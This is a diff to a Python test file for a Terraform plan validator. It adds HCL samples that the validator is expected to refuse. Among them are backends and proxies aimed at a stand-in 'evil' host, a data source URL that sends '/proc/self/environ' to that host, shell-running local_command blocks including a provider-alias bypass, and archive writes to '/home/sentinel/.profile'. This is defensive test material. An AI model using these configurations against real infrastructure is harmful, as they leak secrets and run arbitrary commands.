@@ -16,7 +16,11 @@ HARMLESS = (
     AWS
     + """
 provider "aws" {
-  region = "eu-west-1"
+  region      = "eu-west-1"
+  max_retries = 3
+  assume_role {
+    role_arn = "arn:aws:iam::123456789012:role/plan"
+  }
   default_tags {
     tags = { a = "provisioner" }
   }
@@ -29,6 +33,21 @@ resource "aws_sqs_queue" "a" {
   EOT
 }
 data "aws_caller_identity" "me" {}
+data "aws_ip_ranges" "ec2" {
+  services = ["ec2"]
+}
+data "aws_iam_openid_connect_provider" "ci" {
+  url = "https://token.example"
+}
+data "archive_file" "code" {
+  type        = "zip"
+  source_dir  = "${path.module}/src"
+  output_path = "${path.module}/build/code.zip"
+}
+data "cloudinit_config" "boot" {}
+ephemeral "random_password" "p" {
+  length = 20
+}
 resource "random_id" "r" { byte_length = 4 }
 resource "terraform_data" "t" {}
 module "m" {
@@ -71,6 +90,19 @@ REFUSED = {
     "the state sent elsewhere": 'terraform {\n  backend "http" {\n    address = "http://evil"\n  }\n}',
     "the plan run elsewhere": 'terraform {\n  cloud {\n    organization = "evil"\n  }\n}',
     "a bucket elsewhere": 'terraform {\n  backend "s3" {\n    endpoints = { s3 = "http://evil" }\n  }\n}',
+    "a program of a newer version": 'data "local_command" "x" {\n  command = "sh"\n}',
+    "the same, by another name of its provider": 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/local" }\n  }\n}\ndata "local_command" "x" {\n  provider = aws\n  command  = "sh"\n}',
+    "the same, as an action": 'action "local_command" "x" {\n  config {\n    command = "sh"\n  }\n}',
+    "a request by AWS's own provider": 'data "aws_ip_ranges" "x" {\n  services = ["ec2"]\n  url      = "http://evil/?${urlencode(file("/proc/self/environ"))}"\n}',
+    "a function that runs when it is planned": 'data "aws_lambda_invocation" "x" {\n  function_name = "f"\n  input         = "{}"\n}',
+    "the same for a moment": 'ephemeral "aws_lambda_invocation" "x" {\n  function_name = "f"\n  payload       = "{}"\n}',
+    "an archive at an absolute path": 'data "archive_file" "x" {\n  type        = "zip"\n  output_path = "/home/sentinel/.profile"\n}',
+    "an archive outside of the module": 'data "archive_file" "x" {\n  type        = "zip"\n  output_path = "${path.module}/../../x.zip"\n}',
+    "an archive somewhere": 'data "archive_file" "x" {\n  type        = "zip"\n  output_path = "${path.module}/${var.name}"\n}',
+    "the lock of the state elsewhere": 'terraform {\n  backend "s3" {\n    dynamodb_endpoint = "http://evil"\n  }\n}',
+    "no proof of who answers": 'provider "aws" {\n  insecure = true\n}',
+    "an argument of a newer version": 'provider "aws" {\n  some_new_gateway = "http://evil"\n}',
+    "another provider's proxy": 'provider "tls" {\n  proxy {\n    url = "http://evil"\n  }\n}',
     "what is not valid HCL": 'data "aws_x" {{{',
     "what our parser takes for a text": 'locals {\n  a = <<EOT\ndata "external" "x" {\nEOT\n}',
 }  # fmt: skip
